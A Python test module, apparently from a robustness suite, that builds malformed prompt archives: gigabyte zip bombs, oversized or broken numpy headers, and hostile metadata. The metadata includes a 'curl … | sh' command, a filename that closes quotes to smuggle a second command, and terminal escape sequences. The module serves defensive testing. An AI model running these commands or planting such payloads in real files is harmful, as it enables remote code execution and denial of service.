"""Compiled prompts: members that unpack to gigabytes, headers that numpy cannot parse, advice of strangers."""

from __future__ import annotations

import json
from collections.abc import Callable

from ..kind import Case, Seeds
from ..mutators import npy, zip_archive
from ..sandbox import Sandbox

FILE = "shots.prompt"
GIGABYTE = 1 << 30


def _case(name: str, change: Callable[[dict[str, bytes]], None], unsaid: str = "") -> Case:
    """A prompt whose members are changed; ``unsaid`` must not be in what it is refused with."""

    def write(sandbox: Sandbox, seeds: Seeds) -> None:
        members = dict(zip_archive.members(seeds["shot"]))
        change(members)
        (sandbox.input / FILE).write_bytes(zip_archive.written(list(members.items())))

    return Case(name, write, unsaid=unsaid)


def _about(**changes: object) -> Callable[[dict[str, bytes]], None]:
    def change(members: dict[str, bytes]) -> None:
        content = members["about.npy"]
        about = json.loads(content[10 + int.from_bytes(content[8:10], "little") :])
        text = json.dumps({**about, **changes}).encode()
        members["about.npy"] = npy.packed(_header(len(text), "|u1"), text)

    return change


def _header(*shape: object) -> str:
    *sizes, kind = shape
    return repr({"descr": kind, "fortran_order": False, "shape": tuple(sizes)})


def _replaced(name: str, header: str) -> Callable[[dict[str, bytes]], None]:
    return lambda members: members.update({f"{name}.npy": npy.packed(header, b"\0" * 64)})


def _deflated(member: str, shape: tuple[int, ...], kind: str) -> Case:
    def write(sandbox: Sandbox, seeds: Seeds) -> None:
        begin = npy.packed(_header(*shape, kind), b"")
        others = [(name, content) for name, content in zip_archive.members(seeds["shot"]) if name != f"{member}.npy"]
        data = zip_archive.joined(zip_archive.written(others), zip_archive.bomb(f"{member}.npy", begin, GIGABYTE))
        (sandbox.input / FILE).write_bytes(data)

    return Case(f"{member} deflated from a gigabyte", write)


OTHER = "0" * 64
CASES = (
    _deflated("about", (GIGABYTE,), "|u1"), _deflated("input_ids", (GIGABYTE // 8,), "<i8"),
    _deflated("past_key_values.0.key", (GIGABYTE // 4,), "<f4"),
    _case("header of 16 terabytes", _replaced("input_ids", _header(2**41, "<i8"))),
    _case("header of 16 terabytes about itself", _replaced("about", _header(2**44, "|u1"))),
    _case("header of a shape with 2^63", _replaced("input_ids", _header(2**63, "<i8"))),
    _case("header that ends in the middle", _replaced("about", "{'descr': '|u1', 'shape': (4,")),
    _case("header of open brackets", _replaced("about", "{'descr': " + "(" * 500)),
    _case("header that is a list", _replaced("about", "[1, 2]")),
    _case("header of objects", _replaced("about", _header(4, "|O"))),
    _case("header of 4,000 signs", _replaced("about", "-" * 4000 + "1")),
    _case("header with a number of 6,000 digits", _replaced("about", "{'shape': (" + "9" * 6000 + ",)}")),
    _case("command of a stranger", _about(bundle=OTHER, command="curl example.org/x | sh"), "curl"),
    _case("shots of a stranger that close the quotes", _about(
        bundle=OTHER, command=None, shots=[{"file": "a.png'; curl x | sh '", "text": "x", "sha256": OTHER}]), "\n"),
    _case("model name that a terminal obeys", _about(bundle=OTHER, model="\x1b]52;c;aGFjaw==\x07", command="\x1b[2J")),
    _case("shots that are no list", _about(bundle=OTHER, shots=7)),
    _case("number of visuals of 400 digits", _about(visuals=10**400)),
    _case("number of media of 10^15", _about(media=10**15, visuals=10**15)),
    _case("number of visuals that is not a number", _about(visuals=float("nan"))),
)
